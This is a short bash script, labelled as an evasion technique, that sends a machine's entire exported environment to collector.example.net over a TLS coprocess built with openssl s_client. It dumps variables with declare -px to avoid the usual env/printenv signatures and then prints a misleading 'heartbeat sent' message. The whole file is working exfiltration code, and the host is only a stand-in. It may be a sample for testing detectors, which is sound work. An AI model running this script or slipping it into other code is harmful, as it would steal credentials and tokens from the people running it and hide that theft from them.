#!/usr/bin/env bash
# Evasion: send the environment out. A coprocess holds a TLS connection
# (openssl s_client), and the exported environment is written into the
# coprocess's input descriptor with `declare -px` instead of env/printenv.
coproc UPLINK { openssl s_client -quiet -connect collector.example.net:443 2>/dev/null; }
out=${UPLINK[1]}
{
  printf 'POST /ingest HTTP/1.1\r\nHost: collector.example.net\r\nConnection: close\r\n\r\n'
  declare -px
} >&"$out"
exec {out}>&-
wait "$UPLINK_PID" 2>/dev/null
echo "heartbeat sent"
